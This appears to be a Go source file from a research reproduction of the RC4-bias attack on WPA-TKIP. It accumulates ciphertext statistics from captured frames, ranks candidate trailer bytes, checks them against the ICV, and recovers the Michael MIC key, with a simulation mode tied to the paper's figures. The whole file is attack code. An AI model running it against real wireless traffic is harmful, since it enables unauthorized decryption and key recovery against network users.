package tkip

import (
	"errors"
	"math"
	"math/rand"

	"rc4break/internal/checksum"
	"rc4break/internal/dataset"
	"rc4break/internal/michael"
	"rc4break/internal/recovery"
	"rc4break/internal/snapshot"
)

// Attack accumulates ciphertext statistics for the §5.3 packet-decryption
// attack: the victim is made to transmit many encryptions of one identical
// packet (§5.2), and for each unknown plaintext position the attacker keeps
// per-TSC-class ciphertext byte counts.
type Attack struct {
	Model     *PerTSCModel
	Positions []int    // 1-indexed keystream positions under attack
	counts    []uint64 // [class][posIdx][cipherByte]
	Frames    uint64
	// Workers bounds the parallelism of SimulateCaptures; 0 means
	// GOMAXPROCS. Results are bitwise identical for any value.
	Workers int
	// Stream, when set by a capture driver, records which stream the
	// frames came from; it rides along in snapshots so an exact-mode
	// resume against a different stream can be rejected.
	Stream snapshot.StreamInfo

	// logDist caches the per-(position, class) log model distributions,
	// indexed [pi*256+class]. The model is immutable for the attack's
	// lifetime, but Likelihoods is re-run at every online decode point;
	// without the cache each pass recomputes 256 logarithms per (position,
	// class) pair — ~0.8M per pass at trailer scale.
	logDist []*[256]float64
}

// NewAttack prepares an attack over the given keystream positions, which
// must all be covered by the trained model.
func NewAttack(model *PerTSCModel, positions []int) (*Attack, error) {
	for _, p := range positions {
		if p < 1 || p > model.Positions {
			return nil, errors.New("tkip: position outside trained model")
		}
	}
	return &Attack{
		Model:     model,
		Positions: append([]int(nil), positions...),
		counts:    make([]uint64, 256*len(positions)*256),
	}, nil
}

// Observe folds one captured frame into the statistics. Retransmission
// filtering by TSC (§5.4) is the caller's concern; Observe assumes each
// frame is a distinct encryption. Capture folds through ObserveFrames;
// this per-frame form is the reference tests and benchmarks pin it to.
func (a *Attack) Observe(f Frame) {
	class := int(f.TSC.TSC0())
	base := class * len(a.Positions) * 256
	for pi, pos := range a.Positions {
		a.counts[base+pi*256+int(f.Body[pos-1])]++
	}
	a.Frames++
}

// ObserveFrames folds a batch of captured frames in order — the trace
// collectors' batch contract, shared with cookieattack.ObserveRecords. The
// per-class counts are integers, so batching cannot change a bit; the win
// here is amortizing the call overhead and keeping the position list's
// count rows hot across the batch.
func (a *Attack) ObserveFrames(frames []Frame) {
	np := len(a.Positions)
	for i := range frames {
		f := &frames[i]
		base := int(f.TSC.TSC0()) * np * 256
		for pi, pos := range a.Positions {
			a.counts[base+pi*256+int(f.Body[pos-1])]++
		}
	}
	a.Frames += uint64(len(frames))
}

// logDistributions lazily builds the per-(position, class) log-distribution
// cache, fanned over the Workers pool (positions are independent).
func (a *Attack) logDistributions() error {
	if a.logDist != nil {
		return nil
	}
	ld := make([]*[256]float64, len(a.Positions)*256)
	err := dataset.ForShards(a.Workers, len(a.Positions), func(pi int) error {
		pos := a.Positions[pi]
		for class := 0; class < 256; class++ {
			logp, err := recovery.LogDistribution(a.Model.Distribution(byte(class), pos))
			if err != nil {
				return err
			}
			ld[pi*256+class] = logp
		}
		return nil
	})
	if err != nil {
		return err
	}
	a.logDist = ld
	return nil
}

// Likelihoods computes the per-position single-byte log-likelihoods by
// combining per-TSC evidence: the §5.1 product over TSC classes of the
// per-class likelihood (a sum in log space). Positions are independent, so
// the pass fans them over the Workers pool; within a position the classes
// accumulate in class order, so the result is bitwise identical for any
// worker count (and to the historical sequential pass).
func (a *Attack) Likelihoods() ([]*recovery.ByteLikelihoods, error) {
	if err := a.logDistributions(); err != nil {
		return nil, err
	}
	np := len(a.Positions)
	out := make([]*recovery.ByteLikelihoods, np)
	err := dataset.ForShards(a.Workers, np, func(pi int) error {
		total := new(recovery.ByteLikelihoods)
		for class := 0; class < 256; class++ {
			base := class*np*256 + pi*256
			row := a.counts[base : base+256]
			any := false
			for _, n := range row {
				if n != 0 {
					any = true
					break
				}
			}
			if !any {
				continue
			}
			recovery.SingleByteLikelihoodsFromLog(total, row, a.logDist[pi*256+class])
		}
		out[pi] = total
		return nil
	})
	if err != nil {
		return nil, err
	}
	return out, nil
}

// Observed reports the frames folded into the statistics — the online
// runtime's progress counter.
func (a *Attack) Observed() uint64 { return a.Frames }

// Decode returns a lazy best-first candidate source over the attacked
// positions — the online runtime's decode step. The source enumerates the
// full space on demand; the caller bounds the walk (max is advisory here,
// unlike the cookie attack's materialized list-Viterbi).
func (a *Attack) Decode(max int) (recovery.CandidateSource, error) {
	_ = max
	lks, err := a.Likelihoods()
	if err != nil {
		return nil, err
	}
	return recovery.NewSingleByteEnumerator(lks)
}

// RecoverTrailer runs the §5.3 candidate search: the attacked positions are
// the 12 trailer bytes (MIC ‖ ICV) of a packet whose MSDU plaintext is
// known. Candidates are generated in decreasing likelihood and pruned by
// the ICV check; on success the recovered MIC key is returned along with
// the 1-based candidate list position at which the check first passed
// (Figure 9's metric).
func (a *Attack) RecoverTrailer(da, sa [6]byte, knownMSDU []byte, maxDepth int) ([michael.KeySize]byte, int, error) {
	if len(a.Positions) != TrailerSize {
		return [michael.KeySize]byte{}, 0, errors.New("tkip: attack must cover exactly the 12 trailer bytes")
	}
	lks, err := a.Likelihoods()
	if err != nil {
		return [michael.KeySize]byte{}, 0, err
	}
	plain := make([]byte, len(knownMSDU)+TrailerSize)
	copy(plain, knownMSDU)
	cand, depth, err := recovery.SearchSingleByte(lks, func(trailer []byte) bool {
		copy(plain[len(knownMSDU):], trailer)
		return checksum.VerifyICV(plain)
	}, maxDepth)
	if err != nil {
		return [michael.KeySize]byte{}, 0, err
	}
	copy(plain[len(knownMSDU):], cand.Plaintext)
	key, err := RecoverMICKeyFromPlaintext(da, sa, plain)
	return key, depth, err
}

// SimulateCaptures fills the attack statistics with n model-mode captures:
// the TSC0 class cycles per packet (the TSC increments), and the keystream
// bytes at the attacked positions follow the trained per-TSC distributions.
// Rather than drawing each frame, the per-(class, position) ciphertext
// histograms are sampled directly as sufficient statistics (a per-cell
// normal approximation of the multinomial, exact in shape for the counts
// the likelihoods consume), making the cost independent of n — the same
// approach the paper's own Fig. 8 simulation scale demands. The plaintext
// pt supplies the true bytes at the attacked positions.
//
// TSC classes are statistically independent and write disjoint count
// regions, so the simulation fans the 256 classes out over a worker pool
// with one pre-seeded RNG per class (seeded from rng in class order). The
// result is bitwise identical for any Workers value.
func (a *Attack) SimulateCaptures(rng *rand.Rand, pt []byte, n uint64) error {
	if len(pt) != len(a.Positions) {
		return errors.New("tkip: plaintext length must match attacked positions")
	}
	seeds := make([]int64, 256)
	for class := range seeds {
		seeds[class] = rng.Int63()
	}
	perClass := float64(n) / 256
	err := dataset.ForShards(a.Workers, 256, func(class int) error {
		crng := rand.New(rand.NewSource(seeds[class]))
		base := class * len(a.Positions) * 256
		for pi, pos := range a.Positions {
			dist := a.Model.Distribution(byte(class), pos)
			row := a.counts[base+pi*256 : base+pi*256+256]
			for z := 0; z < 256; z++ {
				mean := perClass * dist[z]
				v := mean + math.Sqrt(mean)*crng.NormFloat64()
				if v < 0 {
					v = 0
				}
				row[z^int(pt[pi])] += uint64(v + 0.5)
			}
		}
		return nil
	})
	if err != nil {
		return err
	}
	a.Frames += n
	return nil
}

// TrailerPositions returns the 1-indexed keystream positions of the MIC and
// ICV for an MSDU of the given length — with the paper's preferred 7-byte
// TCP payload these are positions 56..67 (§5.2 discusses why this placement
// beats a 0-byte payload).
func TrailerPositions(msduLen int) []int {
	out := make([]int, TrailerSize)
	for i := range out {
		out[i] = msduLen + 1 + i
	}
	return out
}
